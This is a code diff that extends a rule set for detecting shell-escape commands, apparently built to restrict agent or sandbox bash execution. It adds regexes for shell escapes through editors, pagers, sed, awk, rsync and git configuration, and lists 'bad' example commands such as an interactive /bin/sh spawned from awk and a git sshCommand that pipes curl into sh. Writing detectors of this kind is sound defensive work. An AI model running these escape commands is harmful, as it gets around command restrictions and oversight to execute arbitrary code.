@@ -19,10 +19,10 @@ export const bashProgramRules: readonly Rule[] = [
         },
       },
       {
-        call: ['vim', 'vi', 'ex', 'nvim', 'ed', 'less', 'gdb', 'ftp', 'mysql', 'psql', 'sqlite3'],
+        call: ['vim', 'vi', 'ex', 'nvim', 'ed', 'less', 'more', 'gdb', 'ftp', 'mysql', 'psql', 'sqlite3'],
         where: {
           arg: 'any',
-          regex: '^:?!|^shell |^\\\\!|^\\.shell|^\\.system|^:?(py|lua|python|py3) ?(import|os|vim)',
+          regex: '^[+:]{0,2}!|^shell |^\\\\!|^\\.shell|^\\.system|^:?(py|lua|python|py3) ?(import|os|vim)',
         },
       },
       {
@@ -43,8 +43,27 @@ export const bashProgramRules: readonly Rule[] = [
         },
       },
       {
+        call: ['awk.shell', 'perl.shell', 'ruby.shell', 'php.shell', 'lua.shell', 'tclsh.shell'],
+      },
+      { call: 'sed', where: { arg: 'any', regex: '^[0-9$]{0,6}e \\w|^s/[^/]{0,80}/[^/]{0,80}/[gimp0-9]{0,3}e$' } },
+      { call: 'rsync', where: { arg: 'any', regex: '^(/usr)?(/bin/)?(ba|da|z|k)?sh -c' } },
+      {
+        call: 'git',
+        where: [
+          {
+            arg: 'any',
+            regex:
+              '^(core\\.(sshCommand|pager|editor|fsmonitor|hooksPath)|alias\\.\\w+|diff\\.external|sequence\\.editor)$',
+          },
+          { arg: 'any', regex: '^!|\\b(sh|bash|curl|wget|nc|python3?) |\\| ?(ba)?sh\\b|^/(tmp|var/tmp|dev/shm)/' },
+        ],
+      },
+      {
         call: ['man', 'split', 'sort', 'rsync', 'socat', 'make'],
-        where: { arg: 'any', regex: '^--(pager|filter|compress-program|rsh|html)=.*(sh|bash)\\b|^SHELL=|^--eval=' },
+        where: {
+          arg: 'any',
+          regex: '^--(pager|filter|compress-program|rsh|html)=(.*(sh|bash)\\b|/tmp/|\\./)|^SHELL=|^--eval=',
+        },
       },
     ],
     bad: [
@@ -55,6 +74,11 @@ export const bashProgramRules: readonly Rule[] = [
       "ssh -o ProxyCommand='sh -c id' x",
       "git -c core.sshCommand='sh x' fetch",
       "git -c alias.x='!id' x",
+      "sed '1e id' /etc/hostname",
+      "less a.txt '+!sh'",
+      'awk \'BEGIN { system("/bin/sh -i") }\'',
+      'rsync -e \'sh -c "sh 0<&2 1>&2"\' 127.0.0.1:/dev/null',
+      'git config core.sshCommand \'sh -c "curl x|sh"\'',
     ],
     ok: [
       'tar czf a.tgz src',
@@ -63,6 +87,10 @@ export const bashProgramRules: readonly Rule[] = [
       'ssh host uptime',
       'find . -type f -exec sh -c \'echo "$1"\' _ {} \\;',
       'git -c user.name=a commit -m x',
+      'git config core.editor vim',
+      'git config alias.st status',
+      "sed -e 's/a/e/' -n -e '1p' f",
+      "rsync -e 'ssh -p 22' a host:b",
     ],
   },
   {
@@ -93,7 +121,7 @@ export const bashProgramRules: readonly Rule[] = [
       "ruby -e '`id`'",
       'php -r \'shell_exec("id");\'',
     ],
-    ok: ["awk '{ print $1 }' f", "perl -pe 's/a/b/' f", "ruby -e 'puts 1'"],
+    ok: ["awk '{ print $1 }' f", 'awk \'{ print "system(" $1 ")" }\' f', "perl -pe 's/a/b/' f", "ruby -e 'puts 1'"],
   },
   {
     id: 'sh/dynamic-code/one-liner-eval',
